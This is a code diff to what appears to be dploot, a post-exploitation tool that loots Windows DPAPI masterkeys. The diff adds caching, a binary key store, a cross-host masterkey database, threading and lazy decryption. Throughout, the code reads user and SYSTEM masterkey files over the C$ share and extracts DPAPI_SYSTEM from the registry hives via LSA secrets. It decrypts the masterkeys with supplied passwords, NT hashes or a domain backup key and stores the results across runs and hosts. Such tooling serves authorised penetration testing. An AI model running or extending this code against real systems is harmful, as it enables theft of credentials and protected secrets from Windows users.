@@ -1,30 +1,145 @@
 from binascii import hexlify, unhexlify
 import logging
+import mmap
 import ntpath
 import os
-from typing import Dict, List
+import struct
+import threading
+from typing import Callable, Dict, Iterable, Iterator, List, Tuple
+from uuid import UUID
 from Cryptodome.Hash import SHA1
 
-from impacket.examples.secretsdump import LSASecrets, SAMHashes
-
-from dploot.lib.dpapi import decrypt_masterkey
+from dploot.lib.cache import get_incremental_cache
+from dploot.lib.dpapi import DPLootMasterkeyCandidates, decrypt_masterkey
+from dploot.lib.journal import get_journal
+from dploot.lib.masterkeydb import get_masterkey_database
 from dploot.lib.target import Target
 from dploot.lib.utils import find_guid, find_sha1, is_guid, parse_file_as_list
 from dploot.lib.smb import DPLootSMBConnection
+from dploot.lib.stats import instrument
 
 class Masterkey:
+    ''' A decrypted masterkey, its GUID and the SHA1 of its key are kept as 16 and 20 bytes '''
+
+    __slots__ = ('_guid', '_sha1', 'user')
+
     def __init__(self, guid, sha1, user: str = 'None') -> None:
-        self.guid = guid
-        self.sha1 = sha1
+        self._guid = UUID(guid).bytes
+        self._sha1 = unhexlify(sha1)
         self.user = user
 
+    @property
+    def guid(self) -> str:
+        return str(UUID(bytes=self._guid))
+
+    @property
+    def sha1(self) -> str:
+        return hexlify(self._sha1).decode('latin-1')
+
+    @property
+    def key(self) -> bytes:
+        ''' SHA1 of the masterkey, which decrypts blobs '''
+        return self._sha1
+
     def __str__(self) -> str:
         return "{%s}:%s" % (self.guid,self.sha1)
 
     def dump(self) -> None:
         print(self)
 
-def parse_masterkey_file(filename) -> List[Masterkey]:
+    @classmethod
+    def from_bytes(cls, guid: bytes, key: bytes, user: str = 'None') -> "Masterkey":
+        masterkey = cls.__new__(cls)
+        masterkey._guid = guid
+        masterkey._sha1 = key
+        masterkey.user = user
+        return masterkey
+
+class MasterkeyFile:
+    ''' A binary masterkey file, looked up in place instead of being loaded
+
+    The file starts with MAGIC, a version and the number of masterkeys (little endian 32 bits integers),
+    followed by one RECORD_SIZE bytes record per masterkey: its GUID (16 bytes, as uuid.UUID.bytes) then
+    the SHA1 of its key (20 bytes). Records are sorted by GUID, find() is a binary search. The file is
+    mapped in memory with use_mmap, else read at once. Write it with write_masterkey_file.
+    '''
+
+    MAGIC = b'DPLOOTMK'
+    VERSION = 1
+    HEADER = struct.Struct('<8sII')
+    RECORD_SIZE = 36
+
+    def __init__(self, filename: str, use_mmap: bool = True) -> None:
+        self.filename = filename
+        with open(filename, 'rb') as f:
+            magic, version, self.count = self.HEADER.unpack(f.read(self.HEADER.size))
+            if magic != self.MAGIC or version != self.VERSION:
+                raise ValueError("%s is not a version %d binary masterkey file" % (filename, self.VERSION))
+            size = os.fstat(f.fileno()).st_size
+            if size != self.HEADER.size + self.count * self.RECORD_SIZE:
+                raise ValueError("%s is truncated: %d masterkeys expected" % (filename, self.count))
+            if use_mmap:
+                self._data = mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ)
+            else:
+                f.seek(0)
+                self._data = f.read()
+
+    @classmethod
+    def is_masterkey_file(cls, filename: str) -> bool:
+        with open(filename, 'rb') as f:
+            return f.read(len(cls.MAGIC)) == cls.MAGIC
+
+    def _record(self, index: int) -> Tuple[bytes, bytes]:
+        offset = self.HEADER.size + index * self.RECORD_SIZE
+        return self._data[offset:offset + 16], self._data[offset + 16:offset + self.RECORD_SIZE]
+
+    def find(self, guid: str) -> "Masterkey | None":
+        try:
+            guid = UUID(guid).bytes
+        except ValueError:
+            return None
+        low, high = 0, self.count
+        while low < high:
+            middle = (low + high) // 2
+            offset = self.HEADER.size + middle * self.RECORD_SIZE
+            if self._data[offset:offset + 16] < guid:
+                low = middle + 1
+            else:
+                high = middle
+        if low < self.count:
+            record_guid, key = self._record(low)
+            if record_guid == guid:
+                return Masterkey.from_bytes(record_guid, key)
+        return None
+
+    def __len__(self) -> int:
+        return self.count
+
+    def __iter__(self) -> Iterator[Masterkey]:
+        for index in range(self.count):
+            yield Masterkey.from_bytes(*self._record(index))
+
+    def close(self) -> None:
+        if isinstance(self._data, mmap.mmap):
+            self._data.close()
+
+def write_masterkey_file(filename: str, masterkeys: Iterable[Masterkey]) -> int:
+    ''' Writes masterkeys to filename as a binary masterkey file, returns how many were written '''
+    records = dict()
+    for masterkey in masterkeys:
+        guid = UUID(masterkey.guid).bytes
+        if guid in records:
+            continue
+        records[guid] = unhexlify(masterkey.sha1)
+    with open(filename, 'wb') as f:
+        f.write(MasterkeyFile.HEADER.pack(MasterkeyFile.MAGIC, MasterkeyFile.VERSION, len(records)))
+        f.write(b''.join(guid + records[guid] for guid in sorted(records)))
+    return len(records)
+
+def parse_masterkey_file(filename) -> "List[Masterkey] | MasterkeyFile":
+    ''' Reads a text file of {GUID}:SHA1 lines, or opens a binary masterkey file (see MasterkeyFile) '''
+    if MasterkeyFile.is_masterkey_file(filename):
+        return MasterkeyFile(filename)
     masterkeys = list()
     masterkeys_lines = parse_file_as_list(filename)
     for masterkey in masterkeys_lines:
@@ -42,7 +157,7 @@ class MasterkeysTriage:
     system_masterkeys_generic_path = 'Windows\\System32\\Microsoft\\Protect'
     share = 'C$'
 
-    def __init__(self, target: Target, conn: DPLootSMBConnection, pvkbytes: bytes = None, passwords: Dict[str,str] = None, nthashes: Dict[str,str] = None, dpapiSystem: Dict[str,str] = None) -> None:
+    def __init__(self, target: Target, conn: DPLootSMBConnection, pvkbytes: bytes = None, passwords: Dict[str,"str | List[str]"] = None, nthashes: Dict[str,"str | List[str]"] = None, dpapiSystem: Dict[str,str] = None, per_finding_callback: Callable[[Masterkey], None] = None) -> None:
         self.target = target
         self.conn = conn
         self.pvkbytes = pvkbytes
@@ -50,16 +165,35 @@ class MasterkeysTriage:
         self.nthashes = nthashes
         
         self._users = None
+        self._profiles = None
+        self._candidates: Dict[str, DPLootMasterkeyCandidates] = dict()
+        self._candidates_lock = threading.Lock()
         self.looted_files = dict()
+        self.journal = get_journal(target)
+        # the SHA1 of masterkeys are key material: only kept across runs with -incremental-masterkeys
+        self.incremental = get_incremental_cache(target.address) if target.incremental and getattr(target, 'incremental_masterkeys', False) else None
+        self.masterkeys_db = get_masterkey_database(target.masterkeys_db) if getattr(target, 'masterkeys_db', None) is not None else None
         self.dpapiSystem = dpapiSystem
         if self.dpapiSystem is None:
             self.dpapiSystem = {}
         # should be {"MachineKey":"key","Userkey":"key"}
+        self._dpapi_system_loaded = False
+        self._dpapi_system_lock = threading.Lock()
+        self.per_finding_callback = per_finding_callback
 
-    def triage_system_masterkeys(self) -> List[Masterkey]:
-        masterkeys = list()
-        logging.getLogger("impacket").disabled = True
-        if len(self.dpapiSystem) == 0:
+    def found(self, masterkey: Masterkey) -> Masterkey:
+        ''' Hands masterkey to per_finding_callback as soon as it is decrypted, before the triage returns '''
+        if self.per_finding_callback is not None:
+            self.per_finding_callback(masterkey)
+        return masterkey
+
+    def load_dpapi_system(self) -> None:
+        ''' Gets DPAPI_SYSTEM from LSA secrets, once, unless it was given '''
+        with self._dpapi_system_lock:
+            if len(self.dpapiSystem) > 0 or self._dpapi_system_loaded:
+                return
+            self._dpapi_system_loaded = True
+            logging.getLogger("impacket").disabled = True
             if self.conn.local_session:
                 self.conn.enable_localops(os.path.join(self.target.local_root, r'Windows/System32/config/SYSTEM'))
             else:
@@ -67,6 +201,7 @@ class MasterkeysTriage:
             if self.conn.bootkey:
                 logging.debug(f"Got Bootkey: {hexlify(self.conn.bootkey)}")
 
+                from impacket.examples.secretsdump import LSASecrets
                 try:
                     SECURITYFileName = \
                         os.path.join(self.target.local_root, r'Windows/System32/config/SECURITY') if self.conn.local_session \
@@ -98,6 +233,20 @@ class MasterkeysTriage:
                 # except Exception as e:
                 #     logging.error('SAM hashes extraction failed: %s' % str(e))
 
+    @instrument()
+    def triage_system_masterkeys(self) -> List[Masterkey]:
+        masterkeys = list()
+        self.load_dpapi_system()
+        for guid, location in self.system_masterkey_files().items():
+            logging.debug("Found %s MasterKey: \\\\%s\\%s\\%s" % ('SYSTEM user' if location[2] is not None else 'SYSTEM system', self.target.address, self.share, location[0]))
+            masterkey = self.triage_masterkey_file(guid, *location)
+            if masterkey is not None:
+                masterkeys.append(self.found(masterkey))
+        return masterkeys
+
+    def system_masterkey_files(self) -> Dict[str, Tuple[str, str, "str | None", bool]]:
+        ''' Returns guid: (filepath, user, sid, system) of SYSTEM masterkey files, without reading them '''
+        files = dict()
         system_protect_dir = self.conn.remote_list_dir(self.share, path=self.system_masterkeys_generic_path)
         for d in system_protect_dir:
             if d not in self.false_positive and d.is_directory()>0 and d.get_longname()[:2] == 'S-':# could be a better way to deal with sid
@@ -107,84 +256,159 @@ class MasterkeysTriage:
                 for f in system_sid_dir:
                     if f.is_directory() == 0 and is_guid(f.get_longname()):
                         guid = f.get_longname()
-                        filepath = ntpath.join(system_protect_dir_sid_path,guid)
-                        logging.debug("Found SYSTEM system MasterKey: \\\\%s\\%s\\%s" %  (self.target.address,self.share,filepath))
-                        # read masterkey
-                        masterkey_bytes = self.conn.readFile(self.share, filepath)
-                        if masterkey_bytes is not None:
-                            self.looted_files[guid] = masterkey_bytes
-                            key = decrypt_masterkey(masterkey=masterkey_bytes, dpapi_systemkey=self.dpapiSystem)
-                            if key is not None:
-                                masterkeys.append(Masterkey(guid=guid, sha1=hexlify(SHA1.new(key).digest()).decode('latin-1'), user='SYSTEM'))
+                        files[guid] = (ntpath.join(system_protect_dir_sid_path,guid), 'SYSTEM', None, True)
                     elif f.is_directory()>0 and f.get_longname() == 'User':
                         system_protect_dir_user_path = ntpath.join(system_protect_dir_sid_path,'User')
                         system_user_dir = self.conn.remote_list_dir(self.share, path=system_protect_dir_user_path)
                         for g in system_user_dir:
                             if g.is_directory() == 0 and is_guid(g.get_longname()):
                                 guid = g.get_longname()
-                                filepath = ntpath.join(system_protect_dir_user_path,guid)
-                                logging.debug("Found SYSTEM user MasterKey: \\\\%s\\%s\\%s" %  (self.target.address,self.share,filepath))
-                                # read masterkey
-                                masterkey_bytes = self.conn.readFile(self.share, filepath)
-                                if masterkey_bytes is not None:
-                                    self.looted_files[guid] = masterkey_bytes
-                                    key = decrypt_masterkey(masterkey=masterkey_bytes, dpapi_systemkey=self.dpapiSystem, sid=sid)
-                                    if key is not None:
-                                        masterkeys.append(Masterkey(guid=guid, sha1=hexlify(SHA1.new(key).digest()).decode('latin-1'), user='SYSTEM_User'))
-        return masterkeys
+                                files[guid] = (ntpath.join(system_protect_dir_user_path,guid), 'SYSTEM_User', sid, True)
+        return files
 
+    @instrument()
     def triage_masterkeys(self) -> List[Masterkey]:
         masterkeys = list()
-        for user in self.users:
-            try:
-                masterkeys += self.triage_masterkeys_for_user(user)
-            except Exception as e:
-                if logging.getLogger().level == logging.DEBUG:
-                    import traceback
-                    traceback.print_exc()
-                    logging.debug(str(e))
+        for user_masterkeys in self.conn.map(self.triage_masterkeys_for_user, self.users):
+            masterkeys += user_masterkeys
         return masterkeys
             
+    @instrument()
     def triage_masterkeys_for_user(self, user:str) -> List[Masterkey]:
         masterkeys = list()
-        user_masterkey_path = ntpath.join(ntpath.join('Users', user),self.user_masterkeys_generic_path)
+        for guid, location in self.user_masterkey_files(user).items():
+            logging.debug("Found MasterKey: \\\\%s\\%s\\%s" %  (self.target.address,self.share,location[0]))
+            masterkey = self.triage_masterkey_file(guid, *location)
+            if masterkey is not None:
+                masterkeys.append(self.found(masterkey))
+        return masterkeys
+
+    def user_masterkey_files(self, user: str) -> Dict[str, Tuple[str, str, str, bool]]:
+        ''' Returns guid: (filepath, user, sid, system) of the masterkey files of user, without reading them '''
+        files = dict()
+        user_masterkey_path = ntpath.join(self.conn.user_profile_path(user),self.user_masterkeys_generic_path)
         user_protect_dir = self.conn.remote_list_dir(self.share, path=user_masterkey_path)
         if user_protect_dir is None: # Yes, it's possible that users have an AppData tree but no Protect folder
-            return masterkeys
+            return files
         for d in user_protect_dir:
             if d not in self.false_positive and d.is_directory()>0 and d.get_longname()[:2] == 'S-':# could be a better way to deal with sid
                 sid = d.get_longname()
-                user_masterkey_path_sid = ntpath.join(ntpath.join(ntpath.join('Users', user),self.user_masterkeys_generic_path),sid)
+                user_masterkey_path_sid = ntpath.join(user_masterkey_path,sid)
                 user_sid_dir = self.conn.remote_list_dir(self.share, path=user_masterkey_path_sid)
                 for f in user_sid_dir: 
                     if f.is_directory() == 0 and is_guid(f.get_longname()):
                         guid = f.get_longname()
-                        filepath = ntpath.join(user_masterkey_path_sid,guid)
-                        logging.debug("Found MasterKey: \\\\%s\\%s\\%s" %  (self.target.address,self.share,filepath))
-                        # read masterkey
-                        masterkey_bytes = self.conn.readFile(self.share, filepath)
-                        if masterkey_bytes is not None:
-                            self.looted_files[guid] = masterkey_bytes
-                            password = None
-                            nthash = None
-                            if self.passwords is not None and user.lower() in self.passwords:
-                                password = self.passwords[user.lower()]
-                            elif self.passwords is not None and user.rpartition('.')[0].lower() in self.passwords:
-                                password = self.passwords[user.rpartition('.')[0].lower()] # In case of duplicate (like admin and admin.waza) on usernames in c:\Users\
-                            if self.nthashes is not None and user.lower() in self.nthashes:
-                                nthash = self.nthashes[user.lower()]
-                            elif self.nthashes is not None and user.rpartition('.')[0].lower() in self.nthashes:
-                                nthash = self.nthashes[user.rpartition('.')[0].lower()]
-                            key = decrypt_masterkey(
-                                masterkey=masterkey_bytes,
-                                domain_backupkey=self.pvkbytes,
-                                sid=sid, 
-                                password=password,
-                                nthash=nthash,
-                                )
-                            if key is not None:
-                                masterkeys.append(Masterkey(guid=guid, sha1=hexlify(SHA1.new(key).digest()).decode('latin-1'), user=user))
-        return masterkeys
+                        files[guid] = (ntpath.join(user_masterkey_path_sid,guid), user, sid, False)
+        return files
+
+    def triage_masterkey_file(self, guid: str, filepath: str, user: str, sid: "str | None", system: bool = False) -> "Masterkey | None":
+        ''' Reads and decrypts the masterkey file guid, with DPAPI_SYSTEM if system, else with the secrets of user '''
+        known = self.journal.get_masterkey(guid)
+        if known is not None:
+            sha1, user = known
+            return Masterkey(guid=guid, sha1=sha1, user=user)
+        if self.masterkeys_db is not None:
+            known = self.masterkeys_db.get_masterkey(guid)
+            if known is not None:
+                # decrypted on another host, user is the one of this host
+                return self.to_journal(Masterkey(guid=guid, sha1=known[0], user=user))
+        masterkey_bytes = self.conn.readFile(self.share, filepath)
+        if masterkey_bytes is None:
+            return None
+        self.looted_files[guid] = masterkey_bytes
+        if system:
+            self.load_dpapi_system()
+            kwargs = dict(dpapi_systemkey=self.dpapiSystem)
+            if sid is not None:
+                kwargs['sid'] = sid
+        else:
+            kwargs = dict(
+                domain_backupkey=self.pvkbytes,
+                sid=sid,
+                candidates=self.candidates(user, sid),
+                )
+        sha1 = self.decrypt_masterkey(masterkey_bytes, **kwargs)
+        if sha1 is None:
+            return None
+        return self.to_journal(Masterkey(guid=guid, sha1=sha1, user=user))
+
+    def lazy_masterkeys(self, users: bool = True, system: bool = False) -> "LazyMasterkeys":
+        ''' Returns the masterkeys of users and/or SYSTEM, read and decrypted when a blob needs them '''
+        return LazyMasterkeys(self, users=users, system=system)
+
+    def candidates(self, user: str, sid: str) -> DPLootMasterkeyCandidates:
+        ''' Returns the secrets to try on the masterkeys of sid, their keys are derived once per SID '''
+        with self._candidates_lock:
+            if sid not in self._candidates:
+                names = self.secret_names(user, sid)
+                self._candidates[sid] = DPLootMasterkeyCandidates(
+                    sid,
+                    passwords=self.user_secrets(self.passwords, names),
+                    nthashes=self.user_secrets(self.nthashes, names),
+                )
+            return self._candidates[sid]
+
+    def secret_names(self, user: str, sid: str) -> List[str]:
+        ''' Names under which the secrets of sid may be given: the SID, the profile folder of the SID in
+        ProfileList, the folder the masterkeys were found in, and these without their domain suffix '''
+        names = [sid]
+        if self._profiles is None:
+            self._profiles = dict()
+            # ProfileList is only read if there are secrets to look up
+            if self.passwords or self.nthashes:
+                profiles = self.conn.getUsersProfiles()
+                if profiles is not None:
+                    self._profiles = {profile_sid.lower(): ntpath.basename(path) for profile_sid, path in profiles.items()}
+        if sid.lower() in self._profiles:
+            names.append(self._profiles[sid.lower()])
+        names.append(user)
+        # In case of duplicate (like admin and admin.waza) on usernames in c:\Users\
+        names += [name.rpartition('.')[0] for name in names[1:] if '.' in name]
+        return list(dict.fromkeys(name.lower() for name in names))
+
+    @staticmethod
+    def user_secrets(secrets: "Dict[str, str | List[str]] | None", names: List[str]) -> List[str]:
+        ''' Secrets of the first of names found in secrets, then those of '*', tried on every user '''
+        if not secrets:
+            return list()
+        user_secrets = list()
+        for name in names:
+            if name in secrets:
+                user_secrets.append(secrets[name])
+                break
+        if '*' in secrets:
+            user_secrets.append(secrets['*'])
+        return [secret for value in user_secrets for secret in (value if isinstance(value, list) else [value])]
+
+    def decrypt_masterkey(self, masterkey_bytes: bytes, **kwargs) -> "str | None":
+        ''' Returns the SHA1 of the key of a masterkey file, from the incremental cache if it was decrypted before '''
+        if self.incremental is not None:
+            sha1 = self.incremental.get_masterkey(masterkey_bytes)
+            if sha1 is not None:
+                return sha1
+        key = decrypt_masterkey(masterkey=masterkey_bytes, **kwargs)
+        if key is None:
+            return None
+        sha1 = hexlify(SHA1.new(key).digest()).decode('latin-1')
+        if self.incremental is not None:
+            self.incremental.put_masterkey(masterkey_bytes, sha1)
+        return sha1
+
+    def to_journal(self, masterkey: Masterkey) -> Masterkey:
+        self.journal.add_masterkey(masterkey.guid, masterkey.sha1, masterkey.user)
+        if self.masterkeys_db is not None:
+            self.masterkeys_db.add_masterkey(masterkey.guid, masterkey.sha1, masterkey.user, host=self.target.address)
+        return masterkey
+
+    def shared_masterkey(self, guid: str) -> "Masterkey | None":
+        ''' Returns the masterkey guid if -masterkeys-db holds it, without listing nor reading masterkey files '''
+        if self.masterkeys_db is None:
+            return None
+        known = self.masterkeys_db.get_masterkey(guid)
+        if known is None:
+            return None
+        sha1, user = known
+        return self.to_journal(Masterkey(guid=guid, sha1=sha1, user=user))
 
     def getDPAPI_SYSTEM(self,_, secret) -> None:
         if secret.startswith("dpapi_machinekey:"):
@@ -198,15 +422,66 @@ class MasterkeysTriage:
     def users(self) -> List[str]:
         if self._users is not None:
             return self._users
-        
-        users = list()
 
-        users_dir_path = 'Users\\*'
-        directories = self.conn.listPath(shareName='C$', path=ntpath.normpath(users_dir_path))
-        for d in directories:
-            if d.get_longname() not in self.false_positive and d.is_directory() > 0:
-                users.append(d.get_longname())
-    
-        self._users = users
+        self._users = [profile.username for profile in self.conn.list_user_profiles()]
+
+        return self._users
+
+class LazyMasterkeys:
+    ''' Masterkeys only read and decrypted when a blob needs them, see MasterkeysTriage.lazy_masterkeys
+
+    Masterkey directories are listed on the first lookup of a masterkey that -masterkeys-db does not hold,
+    then each masterkey file is read and decrypted the first time find_masterkey looks its guid up, once.
+    Iterating yields the masterkeys decrypted so far.
+    '''
+
+    def __init__(self, triage: MasterkeysTriage, users: bool = True, system: bool = False) -> None:
+        self.triage = triage
+        self.users = users
+        self.system = system
+
+        self._files = None
+        self._masterkeys: Dict[str, "Masterkey | None"] = dict()
+        self._locks: Dict[str, threading.Lock] = dict()
+        self._lock = threading.Lock()
+        self._popped = set()
+
+    def _list_files(self) -> Dict[str, Tuple[str, str, "str | None", bool]]:
+        files = dict()
+        if self.system:
+            files.update(self.triage.system_masterkey_files())
+        if self.users:
+            for user_files in self.triage.conn.map(self.triage.user_masterkey_files, self.triage.users):
+                files.update(user_files)
+        return {guid.lower(): location for guid, location in files.items()}
+
+    def files(self) -> Dict[str, Tuple[str, str, "str | None", bool]]:
+        with self._lock:
+            if self._files is None:
+                self._files = self._list_files()
+            return self._files
+
+    def find(self, guid: str) -> "Masterkey | None":
+        guid = guid.lower()
+        with self._lock:
+            if guid in self._masterkeys:
+                return self._masterkeys[guid]
+            lock = self._locks.setdefault(guid, threading.Lock())
+        with lock:
+            if guid not in self._masterkeys:
+                masterkey = self.triage.shared_masterkey(guid)
+                if masterkey is None:
+                    location = self.files().get(guid)
+                    masterkey = self.triage.triage_masterkey_file(guid, *location) if location is not None else None
+                self._masterkeys[guid] = masterkey
+            return self._masterkeys[guid]
+
+    def __iter__(self) -> Iterator[Masterkey]:
+        return iter([masterkey for masterkey in list(self._masterkeys.values()) if masterkey is not None])
 
-        return self._users
\ No newline at end of file
+    def pop_decrypted(self) -> List[Masterkey]:
+        ''' Returns the masterkeys decrypted since the last call '''
+        with self._lock:
+            decrypted = [masterkey for guid, masterkey in list(self._masterkeys.items()) if masterkey is not None and guid not in self._popped]
+            self._popped.update(masterkey.guid.lower() for masterkey in decrypted)
+        return decrypted